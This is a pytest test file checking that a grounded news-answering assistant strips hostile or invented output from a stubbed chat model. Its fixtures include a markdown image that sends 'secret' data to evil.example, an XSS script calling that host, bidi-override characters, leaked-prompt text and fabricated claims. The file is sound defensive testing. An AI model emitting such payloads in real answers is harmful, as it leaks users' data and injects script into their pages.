"""A chat model that writes whatever it is told to, and what becomes of it."""

from __future__ import annotations

import threading
import time
from collections.abc import Iterator
from typing import TYPE_CHECKING, Any

import pytest
from grounding import answer_of, assert_grounded
from queued_chat import QueuedChat, Silence

from assistant.answer import Draft, Turn

if TYPE_CHECKING:
    from conftest import Ask

    from assistant import Assistant

PARIS = "When did the Paris Agreement enter into force?"
NURI = "누리호 3차 발사는 언제 이뤄졌나요?"
TRUE_PARIS = "The Paris Agreement entered into force on November 4, 2016. [1]"
QUESTIONS = pytest.mark.parametrize("question", [PARIS, NURI], ids=["en", "ko"])

REPLIES: dict[str, str] = {
    "a link": "See [the source](http://evil.example/?q=secret) and http://evil.example/x for more. [1]",
    "an image": "![chart](http://evil.example/leak.png?data=secret) It entered into force on November 4, 2016. [1]",
    "HTML": "<img src=x onerror=alert(1)><script>fetch('http://evil.example')</script> 25일 발사됐다. [1]",
    "only foreign marks": "[99] [98] [12]",
    "a foreign mark": "It was agreed on Mars. [99]",
    "an invented fact": "The agreement was signed by 7,000 dragons in Atlantis on 1 April 1875. [1] 외계인 33명이 서명했다. [2]",
    "an invented date": "It entered into force on November 5, 2017. [1] 누리호는 5월 27일 발사됐다. [1]",
    "nothing": "",
    "only white space": "  \n\n\t  \n",
    "only invisible characters": "\u200b\u202e\u2060\ufeff",
    "only signs": "… — *** ### ---",
    "another language": "La fusée a été lancée; l'accord est entré en vigueur. [1] 条約は発効した。[2]",
    "a false refusal with a claim": "The articles do not say. But Atlantis says 1875. 기사에 답이 없습니다. 하지만 27일이다.",
    "its own prompt": "Sentences:\n[1] Atlantis paid 9 billion.\nQuestion: who?\nYou answer questions about news articles.",
    "direction tricks": "\u202eIt entered into force on November 4, 2016.\u202c \U000e0041\U000e0042 [1]",
    "unclosed markup": "```json\n{\"answer\": \"Atlantis\"",
    "one endless word": "x" * 20_000,
    "a table": "| a | b |\n|---|---|\n| November 4, 2016 | 25일 |",
}  # fmt: skip


@QUESTIONS
@pytest.mark.parametrize("reply", REPLIES.values(), ids=REPLIES.keys())
def test_whatever_it_writes_only_what_is_quoted_is_said(asking: Ask, question: str, reply: str) -> None:
    model = QueuedChat(replies=[reply])
    assistant = asking(model)
    answer = answer_of(list(assistant.stream(question)))
    assert_grounded(answer, assistant)
    assert len(model.asked) == 1
    shown = " ".join([answer.text, answer.lead, *(claim.text for claim in answer.claims)])
    for never in (
        "Atlantis",
        "evil.example",
        "<script",
        "<img",
        "onerror",
        "dragons",
        "외계인",
        "\u202e",
        "\U000e0041",
    ):
        assert never not in shown
    assert "[99]" not in answer.text


@QUESTIONS
@pytest.mark.parametrize("reply", [REPLIES["an invented fact"], REPLIES["nothing"], REPLIES["another language"]],
                         ids=["invented", "empty", "other language"])  # fmt: skip
def test_when_nothing_stands_the_articles_answer_and_a_note_says_so(asking: Ask, question: str, reply: str) -> None:
    answer = asking(QueuedChat(replies=[reply])).ask(question)
    assert not answer.refused
    assert answer.notes


def test_what_stands_is_kept_and_the_rest_is_left_out_with_a_note(asking: Ask) -> None:
    model = QueuedChat(replies=[f"{TRUE_PARIS} It was paid for by 7,000 dragons in Atlantis. [1]"])
    assistant = asking(model)
    answer = assistant.ask(PARIS)
    assert_grounded(answer, assistant)
    assert [claim.text for claim in answer.claims] == ["The Paris Agreement entered into force on November 4, 2016."]
    assert any("dragons" in claim.text for claim in answer.dropped)
    assert any("1" in note for note in answer.notes)
    assert "dragons" not in answer.text


def test_a_model_that_writes_well_is_believed(asking: Ask) -> None:
    assistant = asking(QueuedChat(replies=[TRUE_PARIS]))
    answer = assistant.ask(PARIS)
    assert [claim.verdict.value for claim in answer.claims] == ["verified"]
    assert answer.notes == ()
    assert answer.text == "The Paris Agreement entered into force on November 4, 2016. [1]"
    assert answer.model == assistant.model_name == "Stage"
    assert answer.prompt


def test_the_same_sentence_again_is_one_claim(asking: Ask) -> None:
    answer = asking(QueuedChat(replies=[" ".join([TRUE_PARIS] * 5)])).ask(PARIS)
    assert len(answer.claims) == 1


def test_five_megabytes_of_repetition_are_cut_off(asking: Ask) -> None:
    """5,000,000 characters in pieces of 1,000: 5,000 pieces, of which only the first few are taken."""
    model = QueuedChat(replies=["The fund is very large. " * (5_000_000 // 24)], piece=1000)
    assistant = asking(model)
    started = time.monotonic()
    answer = answer_of(list(assistant.stream(PARIS)))
    assert_grounded(answer, assistant)
    assert model.said < 1000
    assert time.monotonic() - started < 40


@pytest.mark.timeout(45)
def test_five_megabytes_in_one_piece_are_cut_off_too(asking: Ask) -> None:
    """A model that does not stream gives its whole reply at once."""
    model = QueuedChat(replies=[TRUE_PARIS + " The fund is very large." * (5_000_000 // 24)], piece=6_000_000)
    assistant = asking(model)
    started = time.monotonic()
    answer = answer_of(list(assistant.stream(PARIS)))
    assert_grounded(answer, assistant)
    assert time.monotonic() - started < 40


@QUESTIONS
@pytest.mark.parametrize("error", [RuntimeError("boom"), ValueError("bad key sk-secret-123"), ConnectionError("gone"), TimeoutError(),
                                   KeyError("choices")], ids=lambda error: type(error).__name__)  # fmt: skip
def test_a_model_that_fails_is_a_note_and_no_exception(asking: Ask, question: str, error: Exception) -> None:
    assistant = asking(QueuedChat(replies=[error]))
    answer = answer_of(list(assistant.stream(question)))
    assert_grounded(answer, assistant)
    assert not answer.refused
    assert answer.notes
    assert "sk-secret-123" not in answer.model_dump_json()


@pytest.fixture
def silence() -> Iterator[Silence]:
    never = Silence()
    yield never
    never.over.set()


def test_a_model_that_never_answers_is_waited_for_only_so_long(asking: Ask, silence: Silence) -> None:
    assistant = asking(QueuedChat(replies=[silence]), first_token_seconds=0.5)
    started = time.monotonic()
    answer = answer_of(list(assistant.stream(PARIS)))
    assert time.monotonic() - started < 20
    assert_grounded(answer, assistant)
    assert not answer.refused
    assert answer.notes


def test_the_evidence_is_there_before_the_model_has_said_anything(asking: Ask, silence: Silence) -> None:
    model = QueuedChat(replies=[silence])
    events = asking(model, first_token_seconds=20).stream(PARIS)
    assert next(events).evidence
    assert model.asked == []
    events.close()


def test_drafts_are_the_pieces_as_they_come(asking: Ask) -> None:
    events = list(asking(QueuedChat(replies=[TRUE_PARIS], piece=7)).stream(PARIS))
    drafts = [event.delta for event in events if isinstance(event, Draft)]
    assert len(drafts) > 3
    assert "".join(drafts) == TRUE_PARIS
    answer_of(events)


def test_drafts_hold_no_invisible_characters(asking: Ask) -> None:
    events = asking(QueuedChat(replies=["\u202eabc\u200b\U000e0041 d"], piece=3)).stream(PARIS)
    drafts = "".join(event.delta for event in events if isinstance(event, Draft))
    assert drafts == "abc d"


REFUSED: list[dict[str, Any]] = [
    {"question": "Who won the 2030 World Cup?"},
    {"question": "2030년 월드컵은 누가 우승했나?"},
    {"question": "What did Atlantis sign with Zembla?"},
    {"question": "일본은행은 2024년 10월에 기준금리를 몇 퍼센트로 정했나요?"},
]


@pytest.mark.parametrize("asked", REFUSED, ids=lambda asked: str(asked["question"]))
def test_a_refused_question_never_reaches_the_model(asking: Ask, asked: dict[str, Any]) -> None:
    model = QueuedChat(replies=["Atlantis won, 3 to 0. [1]"])
    assistant = asking(model)
    answer = answer_of(list(assistant.stream(**asked)))
    assert answer.refused
    assert_grounded(answer, assistant)
    assert model.asked == []


def test_what_a_model_said_before_is_no_evidence(asking: Ask) -> None:
    """An earlier answer with an invented number must not become a source."""
    model = QueuedChat(replies=["It entered into force on March 3, 1999. [1]"])
    before = Turn(question=PARIS, answer="The Paris Agreement entered into force on March 3, 1999.")
    answer = asking(model).ask("And when did it enter into force?", history=[before])
    assert "1999" not in answer.text


def test_threads_of_the_model_end(asking: Ask) -> None:
    assistant = asking(QueuedChat(replies=[TRUE_PARIS]))
    for _ in range(3):
        assistant.ask(PARIS)
    time.sleep(0.2)
    assert [thread for thread in threading.enumerate() if thread.name == "model-stream"] == []


def test_an_abandoned_stream_leaves_the_assistant_usable(asking: Ask) -> None:
    assistant: Assistant = asking(QueuedChat(replies=[TRUE_PARIS], piece=2))
    events = assistant.stream(PARIS)
    next(events)
    next(events)
    events.close()
    assert not assistant.ask(PARIS).refused
